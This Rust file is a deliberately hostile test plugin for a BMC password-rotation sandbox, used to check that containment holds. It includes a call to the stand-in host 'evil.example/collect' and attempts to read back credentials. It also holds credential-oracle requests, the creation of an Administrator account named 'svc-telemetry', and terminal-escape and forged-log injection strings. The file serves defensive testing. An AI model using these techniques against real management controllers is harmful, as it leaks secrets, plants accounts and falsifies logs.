//! Misbehaviours the sandbox must contain. `change-password` does what `target.account` names:
//!
//! - `spin`: loops forever;
//! - `grow`: allocates until memory runs out;
//! - `absolute-url` / `authority`: tries to reach another host;
//! - `panic`: panics;
//! - `steal`: tries every way it has to read a secret back and reports what it saw in its error;
//! - `sleep`: asks the host to sleep for a minute;
//! - `oversize`: sends Basic requests with 4 MiB user names, then logs an 8 MiB line made of the
//!   same text (once a way to make the host search for a huge needle in a huge line);
//! - `flood`: logs 100,000 lines;
//! - `inject`: answers with terminal escapes and forged log lines in every string (`probe` too);
//! - `lengths`: looks for the body's length in the answer's headers, and asks for a range and a
//!   compressed answer (ways to measure a body the host rewrote);
//! - `oracles`: every way it has to make the BMC compare a secret with something of its choosing,
//!   or to keep the secret somewhere it can read later: a new account named by a guess, the
//!   target account renamed, the secret as a user name or another account's password, twice in a
//!   body, logins as someone else, plus account creation and deletion without a secret. Each
//!   attempt is reported with the host's answer;
//! - `encoded:ENCODING`: has the BMC quote its Basic password in that encoding (percent, HTML
//!   entities, Base64, upper case, JSON twice);
//! - `equality:GUESS` (in `target.address`, so `target.account` can name a real account): has
//!   the BMC echo `GUESS` back, as a 404 quoting a path of candidates once could;
//! - `create-account` (in `target.address`): sends, from `change-password`, exactly the body
//!   onboarding may send, through the manifest's `onboard` rule: no other call may create one.
//!
//! `onboard#enable-account` does what `target.address` names after `hostile:`:
//!
//! - `onboard-oracles`: every way it has to misuse onboarding: an account of another name, the
//!   secret in another member, the login password as the new account's, a weaker role, the
//!   login account's own slot, an account slot the BMC never showed; each reported with the
//!   host's answer.
//!
//! Its manifest is broad on purpose (account creation, PATCH of any account): the placement
//! rules must hold whatever a manifest declares; profiles refuse such a manifest separately.

use bmc_plugin_sdk::prelude::*;

/// The guest.
pub struct Hostile;

/// Clears the screen, returns the cursor, and starts a forged log line.
const INJECTION: &str = "\x1b[2J\x1b[H\r\n2026-01-01T00:00:00Z  INFO forged: all BMCs rotated\u{202e}";

fn oversize(bmc: &Bmc) -> PluginError {
    let password = match bmc.login_password() {
        Ok(s) => s,
        Err(e) => return e,
    };
    let user = "A".repeat(4 << 20);
    let mut answers = Vec::new();
    for _ in 0..8 {
        let request = Request::new(Method::Get, "/redfish/v1/").auth(Auth::Basic { user: &user, password: &password });
        answers.push(match bmc.send(&request) {
            Ok(r) => format!("sent: HTTP {}", r.status),
            Err(e) => format!("{e:?}"),
        });
    }
    bmc.info(format!("{user}{user}"));
    PluginError::Protocol(answers.join(" | "))
}

fn send_path(bmc: &Bmc, path: &str) -> PluginError {
    match bmc.send(&Request::new(Method::Get, path)) {
        Ok(r) => PluginError::Protocol(format!("reached {path}: HTTP {}", r.status)),
        Err(e) => PluginError::Protocol(format!("refused {path}: {e:?}")),
    }
}

fn steal(bmc: &Bmc, target: &Target) -> PluginError {
    let login = match bmc.login_password() {
        Ok(s) => s,
        Err(e) => return e,
    };
    let mut seen = Vec::new();
    // 1. Echo it in a body to an endpoint that reflects requests.
    let body = JsonBody::object().secret("Password", &login);
    let echo = Request::new(Method::Post, "/echo").json(body);
    match bmc.send(&echo) {
        Ok(r) => seen.push(String::from_utf8_lossy(&r.body).into_owned()),
        Err(e) => seen.push(format!("{e:?}")),
    }
    // 2. Its own credential, reflected by the same endpoint; then a session token the BMC
    //    returned: use it, and look for it in what comes back.
    let basic = Request::new(Method::Post, "/echo").auth(Auth::Basic { user: &target.login_account, password: &login });
    if let Ok(r) = bmc.send(&basic) {
        seen.push(String::from_utf8_lossy(&r.body).into_owned());
        seen.extend(r.headers.iter().map(|(k, v)| format!("{k}: {v}")));
        if let Some(token) = &r.session_token
            && let Ok(r) = bmc.send(&Request::new(Method::Post, "/echo").auth(Auth::Session(token)))
        {
            seen.push(String::from_utf8_lossy(&r.body).into_owned());
        }
    }
    // 3. Put the secret where the plugin controls the text: a header. The SDK offers no way, so
    //    try the closest thing: a header the host must refuse.
    let smuggle = Request::new(Method::Get, "/echo").header("X-Auth-Token", "guess");
    seen.push(format!("{:?}", bmc.send(&smuggle).err()));
    // 4. Debug-print the handle.
    seen.push(format!("{login:?}"));
    bmc.info(format!("stolen: {}", seen.join(" | ")));
    PluginError::Protocol(format!("stolen: {}", seen.join(" | ")))
}

fn attempt(bmc: &Bmc, label: &str, request: Request<'_>) -> String {
    match bmc.send(&request) {
        Ok(r) => format!("{label}: HTTP {}", r.status),
        Err(e) => format!("{label}: {e:?}"),
    }
}

fn oracles(bmc: &Bmc, target: &Target) -> Result<PluginError, PluginError> {
    const ACCOUNTS: &str = "/redfish/v1/AccountService/Accounts";
    let (login, new) = (bmc.login_password()?, bmc.new_password()?);
    let me = || Auth::Basic { user: &target.login_account, password: &login };
    let mut seen = Vec::new();
    let body = JsonBody::object().field("UserName", "guess").secret("Password", &new).field("RoleId", "ReadOnly");
    seen.push(attempt(bmc, "create-with-secret", Request::new(Method::Post, ACCOUNTS).auth(me()).json(body)));
    // Pin the target account the honest way, then try to misuse it.
    let account =
        Redfish::basic(bmc, &target.login_account, bmc.login_password()?).find_account_in(ACCOUNTS, &target.account)?;
    let uri = account.uri.clone();
    fn patch<'a>(uri: &str, me: Auth<'a>, body: JsonBody<'a>) -> Request<'a> {
        Request::new(Method::Patch, uri.to_owned()).auth(me).json(body)
    }
    seen.push(attempt(bmc, "rename-target", patch(&uri, me(), JsonBody::object().field("UserName", "guess"))));
    seen.push(attempt(
        bmc,
        "guess-beside-secret",
        patch(&uri, me(), JsonBody::object().field("UserName", "guess").secret("Password", &new)),
    ));
    seen.push(attempt(bmc, "secret-as-name", patch(&uri, me(), JsonBody::object().secret("UserName", &new))));
    seen.push(attempt(
        bmc,
        "secret-twice",
        patch(&uri, me(), JsonBody::object().secret("Password", &new).secret("Password2", &new)),
    ));
    seen.push(attempt(
        bmc,
        "login-secret-to-account",
        patch(&uri, me(), JsonBody::object().secret("Password", &login)),
    ));
    let elsewhere = JsonBody::object().secret("Password", &new);
    seen.push(attempt(
        bmc,
        "secret-elsewhere",
        Request::new(Method::Patch, format!("{ACCOUNTS}/1")).auth(me()).json(elsewhere),
    ));
    let as_other = JsonBody::object().field("UserName", "guess").secret("Password", &login);
    let sessions = "/redfish/v1/SessionService/Sessions";
    seen.push(attempt(bmc, "login-as-other", Request::new(Method::Post, sessions).json(as_other)));
    let basic = Auth::Basic { user: "guess", password: &login };
    seen.push(attempt(bmc, "basic-as-other", Request::new(Method::Get, "/redfish/v1/").auth(basic)));
    let own = JsonBody::object()
        .field("UserName", "svc-telemetry")
        .field("Password", "Own-Pass-123")
        .field("RoleId", "Administrator");
    seen.push(attempt(bmc, "create-account", Request::new(Method::Post, ACCOUNTS).auth(me()).json(own)));
    seen.push(attempt(bmc, "delete-account", Request::new(Method::Delete, format!("{ACCOUNTS}/1")).auth(me())));
    Ok(PluginError::Protocol(seen.join(" | ")))
}

const ACCOUNTS: &str = "/redfish/v1/AccountService/Accounts";

/// The body onboarding sends, with these fields.
fn new_account<'a>(user: &str, role: &str, member: &str, secret: &'a Secret) -> JsonBody<'a> {
    JsonBody::object().field("UserName", user).secret(member, secret).field("RoleId", role).field("Enabled", true)
}

fn onboard_oracles(bmc: &Bmc, target: &Target) -> Result<PluginError, PluginError> {
    let (login, new) = (bmc.login_password()?, bmc.new_password()?);
    let me = || Auth::Basic { user: &target.login_account, password: &login };
    let post = |label: &str, body: JsonBody<'_>| {
        attempt(bmc, label, Request::new(Method::Post, ACCOUNTS).auth(me()).json(body))
    };
    let mut seen = vec![
        post("other-name", new_account("guess", "Administrator", "Password", &new)),
        post("secret-elsewhere", new_account(&target.account, "Administrator", "Description", &new)),
        post("login-password", new_account(&target.account, "Administrator", "Password", &login)),
        post("weaker-role", new_account(&target.account, "ReadOnly", "Password", &new)),
    ];
    // The login account's own slot, shown by the BMC, then a slot it never showed.
    let own = Redfish::basic(bmc, &target.login_account, bmc.login_password()?)
        .find_account_in(ACCOUNTS, &target.login_account)?;
    let patch = |label: &str, uri: &str| {
        let body = new_account(&target.account, "Administrator", "Password", &new);
        attempt(bmc, label, Request::new(Method::Patch, uri.to_owned()).auth(me()).json(body))
    };
    seen.push(patch("login-slot", &own.uri));
    seen.push(patch("unseen-slot", &format!("{ACCOUNTS}/9")));
    Ok(PluginError::Protocol(seen.join(" | ")))
}

fn create_from_change(bmc: &Bmc, target: &Target) -> Result<PluginError, PluginError> {
    let (login, new) = (bmc.login_password()?, bmc.new_password()?);
    let me = Auth::Basic { user: &target.login_account, password: &login };
    let body = new_account(&target.account, "Administrator", "Password", &new);
    Ok(PluginError::Protocol(attempt(bmc, "create-account", Request::new(Method::Post, ACCOUNTS).auth(me).json(body))))
}

fn equality(bmc: &Bmc, guess: &str) -> PluginError {
    let body = JsonBody::object().field("guess", guess);
    PluginError::Protocol(attempt(bmc, "equality", Request::new(Method::Post, "/echo").json(body)))
}

impl VendorPlugin for Hostile {
    const CAPABILITIES: &'static str = concat!(
        "GET /**\n",
        "POST /redfish/v1/SessionService/Sessions\n",
        "DELETE {session}\n",
        "PATCH {account} password=/Password\n",
        "POST /redfish/v1/AccountService/Accounts\n",
        "PATCH /redfish/v1/AccountService/Accounts/*\n",
        "DELETE /redfish/v1/AccountService/Accounts/*\n",
        "POST /echo\n",
        "POST /echo/*\n",
        "POST /redfish/v1/AccountService/Accounts password=/Password onboard\n",
        "PATCH /redfish/v1/AccountService/Accounts/* password=/Password onboard\n",
    );

    fn info() -> PluginInfo {
        PluginInfo {
            id: "hostile".into(),
            vendor: "Nobody".into(),
            product: "Hostile guest".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            families: vec![],
            policy: PasswordPolicy::default(),
        }
    }

    fn probe(_bmc: &Bmc, target: &Target) -> Result<ProbeResult, PluginError> {
        if target.account == "inject" {
            return Ok(ProbeResult {
                family: format!("{INJECTION}iDRAC9"),
                firmware: "9".repeat(1 << 20),
                account_uri: format!("/redfish/v1/{INJECTION}"),
                policy: PasswordPolicy::default(),
            });
        }
        Err(PluginError::Unsupported("hostile guests do not probe".into()))
    }

    fn verify(_bmc: &Bmc, _target: &Target) -> Result<(), PluginError> {
        Ok(())
    }

    fn enable_account(bmc: &Bmc, target: &Target) -> Result<Onboarded, PluginError> {
        match target.address.strip_prefix("hostile:") {
            Some("onboard-oracles") => Err(onboard_oracles(bmc, target).unwrap_or_else(|e| e)),
            other => Err(PluginError::Unsupported(format!("no onboarding misbehaviour named `{other:?}`"))),
        }
    }

    fn change_password(bmc: &Bmc, target: &Target) -> Result<(), PluginError> {
        let mode = target.address.strip_prefix("hostile:").unwrap_or(&target.account);
        if let Some(guess) = mode.strip_prefix("equality:") {
            return Err(equality(bmc, guess));
        }
        if let Some(encoding) = mode.strip_prefix("encoded:") {
            let login = bmc.login_password()?;
            let request = Request::new(Method::Post, format!("/echo/{encoding}"))
                .auth(Auth::Basic { user: &target.login_account, password: &login });
            return Err(PluginError::Protocol(attempt(bmc, encoding, request)));
        }
        match mode {
            "oracles" => Err(oracles(bmc, target).unwrap_or_else(|e| e)),
            "create-account" => Err(create_from_change(bmc, target).unwrap_or_else(|e| e)),
            "spin" => {
                let mut n = 0u64;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "grow" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
                }
            }
            "absolute-url" => Err(send_path(bmc, "https://evil.example/collect")),
            "authority" => Err(send_path(bmc, "//evil.example/collect")),
            "panic" => panic!("hostile guest panicked on purpose"),
            "steal" => Err(steal(bmc, target)),
            "sleep" => {
                bmc.sleep_ms(60_000);
                Ok(())
            }
            "oversize" => Err(oversize(bmc)),
            "lengths" => {
                let mut seen = Vec::new();
                if let Ok(r) = bmc.send(&Request::new(Method::Get, "/redfish/v1/")) {
                    seen.push(format!(
                        "headers: {}",
                        r.headers.iter().map(|(k, _)| k.as_str()).collect::<Vec<_>>().join(",")
                    ));
                }
                for (name, value) in [("Range", "bytes=0-3"), ("Accept-Encoding", "gzip")] {
                    let request = Request::new(Method::Get, "/redfish/v1/").header(name, value);
                    seen.push(match bmc.send(&request) {
                        Ok(r) => format!("{name}: HTTP {}", r.status),
                        Err(e) => format!("{name}: {e:?}"),
                    });
                }
                Err(PluginError::Protocol(seen.join(" | ")))
            }
            "flood" => {
                for i in 0..100_000 {
                    bmc.info(format!("line {i}"));
                }
                Ok(())
            }
            "inject" => {
                bmc.info(INJECTION);
                Err(PluginError::Protocol(INJECTION.repeat(1000)))
            }
            other => Err(PluginError::Unsupported(format!("no misbehaviour named `{other}`"))),
        }
    }
}

register_plugin!(Hostile);
